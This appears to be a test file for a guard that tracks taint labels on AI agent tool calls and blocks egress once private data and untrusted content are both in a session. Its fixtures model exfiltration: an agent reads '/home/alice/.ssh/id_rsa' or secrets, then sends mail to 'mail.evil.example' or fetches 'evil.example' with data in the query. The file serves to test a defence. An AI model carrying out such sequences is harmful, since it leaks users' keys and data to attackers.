/**
 * @module test/taint
 * Taint tracking: the registry's facts give a session sticky labels, call by call and from
 * tool output, carried in `context.session.labels`; a policy forbids egress once private data
 * and untrusted content are both present, unless the intent names the destination.
 */
import { describe, expect, it } from 'vitest';
import { GuardError, PRIVATE_DATA, ToolRegistry, UNTRUSTED_CONTENT } from '../src/index.js';
import { chain, intentToken, makeGuard } from './fixtures.js';

describe('labels', () => {
  it('accumulate from each call and stay for the rest of the session', async () => {
    const { guard } = await makeGuard();
    const s = 't1';
    const a = await guard.check({ sessionId: s, chain, tool: 'read_file', input: { path: '/work/app/a' } });
    expect(a).toMatchObject({ outcome: 'allow', labels: [PRIVATE_DATA], added: [PRIVATE_DATA] });
    const b = await guard.check({ sessionId: s, chain, tool: 'delete_file', input: {} });
    expect(b.labels).toEqual([PRIVATE_DATA]); // needs approval, but the labels are the session's
    const c = await guard.check({ sessionId: s, chain, tool: 'read_inbox' });
    expect(c).toMatchObject({
      outcome: 'allow',
      labels: [PRIVATE_DATA, UNTRUSTED_CONTENT],
      added: [UNTRUSTED_CONTENT],
    });
    const again = await guard.check({ sessionId: s, chain, tool: 'read_file', input: { path: '/work/app/b' } });
    expect(again.added).toEqual([]);
    expect(await guard.labels(s)).toEqual([PRIVATE_DATA, UNTRUSTED_CONTENT]);
    expect(await guard.labels('another-session')).toEqual([]);
  });

  it('are not recorded by a preview (check with record: false), which decides the same way', async () => {
    const { guard } = await makeGuard();
    const s = 't-preview';
    const preview = await guard.check(
      { sessionId: s, chain, tool: 'read_file', input: { path: '/work/app/a' } },
      { record: false },
    );
    expect(preview.outcome).toBe('allow');
    expect(await guard.labels(s)).toEqual([]);
    const real = await guard.check({ sessionId: s, chain, tool: 'read_file', input: { path: '/work/app/a' } });
    expect(real.outcome).toBe(preview.outcome);
    expect(real.reasons).toEqual(preview.reasons);
    expect(await guard.labels(s)).toEqual(real.labels);
  });

  it('come from tool output too, through record() and run()', async () => {
    const { guard } = await makeGuard();
    expect(await guard.record({ sessionId: 't2', tool: 'summarize', output: 'all fine' })).toEqual([]);
    const ran = await guard.run({ sessionId: 't2', chain, tool: 'summarize' }, () => '-----BEGIN PRIVATE KEY-----');
    expect(ran.outcome.outcome).toBe('allow');
    expect(ran.output).toBe('-----BEGIN PRIVATE KEY-----');
    expect(await guard.labels('t2')).toEqual(['secret']);
    expect(await guard.record({ sessionId: 't2', tool: 'fetch', labels: ['pii'] })).toEqual(['secret', 'pii']);
    await expect(guard.record({ sessionId: 't2', tool: 'nope' })).rejects.toBeInstanceOf(GuardError);
  });
});

describe('the lethal trifecta', () => {
  it('denies egress once private data and untrusted content are both in the session', async () => {
    const { guard } = await makeGuard();
    const s = 't3';
    const send = () =>
      guard.check({ sessionId: s, chain, tool: 'send_email', input: { host: 'mail.evil.example', text: 'hi' } });
    await guard.check({ sessionId: s, chain, tool: 'read_file', input: { path: '/home/alice/.ssh/id_rsa' } });
    expect((await send()).outcome).toBe('allow'); // private alone: fine
    await guard.check({ sessionId: s, chain, tool: 'read_inbox' });
    const denied = await send();
    expect(denied).toMatchObject({ outcome: 'deny', reasons: ['trifecta-egress'] });
    expect(denied.message).toContain('`trifecta-egress`');
    // Every hop of the chain was decided; the user (hop 0) is the first one denied.
    expect(denied.hops.map((h) => h.decision.decision)).toEqual(['deny', 'deny', 'deny']);
    // Non-egress tools still run.
    expect((await guard.check({ sessionId: s, chain, tool: 'read_file', input: { path: '/x' } })).outcome).toBe(
      'allow',
    );
  });

  it('untrusted content first, then private data: the same', async () => {
    const { guard } = await makeGuard();
    await guard.check({ sessionId: 't4', chain, tool: 'fetch', input: { url: 'https://evil.example/page' } });
    await guard.check({ sessionId: 't4', chain, tool: 'read_secret' });
    const r = await guard.check({
      sessionId: 't4',
      chain,
      tool: 'fetch',
      input: { url: 'https://evil.example/x?d=...' },
    });
    expect(r.outcome).toBe('deny');
    expect(r.reasons).toContain('trifecta-egress');
  });

  it('lets egress through to a destination the user named in the intent, and nowhere else', async () => {
    const { guard, keys } = await makeGuard();
    const intent = await intentToken(keys.wallet, { hosts: ['api.example.com', 'evil.example'], paths: ['/**'] });
    const s = 't5';
    await guard.check({ sessionId: s, chain, tool: 'read_file', input: { path: '/work/app/a' }, intent });
    await guard.check({ sessionId: s, chain, tool: 'read_inbox', intent });
    const named = await guard.check({
      sessionId: s,
      chain,
      tool: 'fetch',
      input: { url: 'https://api.example.com/v1' },
      intent,
    });
    expect(named.outcome).toBe('allow');
    const other = await guard.check({
      sessionId: s,
      chain,
      tool: 'send_email',
      input: { host: 'evil.example' },
      intent,
    });
    expect(other.outcome).toBe('allow'); // named too
    const intent2 = await intentToken(keys.wallet, { hosts: ['api.example.com', '*.example.org'], paths: ['/**'] });
    // In scope by pattern, but the policy's exception wants the exact host named.
    const pattern = await guard.check({
      sessionId: s,
      chain,
      tool: 'send_email',
      input: { host: 'x.example.org' },
      intent: intent2,
    });
    expect(pattern).toMatchObject({ outcome: 'deny', reasons: ['trifecta-egress'] });
  });

  it('refuses tools that are not registered, and a registry that is wrong', async () => {
    const { guard } = await makeGuard();
    const r = await guard.check({ sessionId: 't6', chain, tool: 'curl', input: { url: 'https://x' } });
    expect(r).toMatchObject({ outcome: 'deny', failure: { kind: 'unknown-tool' } });
    expect(r.message).toContain('`curl`');
    expect(() => new ToolRegistry({ bad: { labels: [''] } })).toThrow(GuardError);
  });

  it('gives each registered tool a Tool entity whose readOnly says whether it changes anything', () => {
    const registry = new ToolRegistry({
      read_file: { readsPrivate: true },
      fetch: { egress: true },
      write_file: { writes: true },
      shell: { writes: true, readOnly: false },
      lookup: { readOnly: true },
    });
    const readOnly = Object.fromEntries(
      (registry.entities('Mandate') as { uid: { id: string }; attrs: { readOnly: boolean } }[]).map((e) => [
        e.uid.id,
        e.attrs.readOnly,
      ]),
    );
    expect(readOnly).toEqual({ read_file: true, fetch: false, write_file: false, shell: false, lookup: true });
  });
});
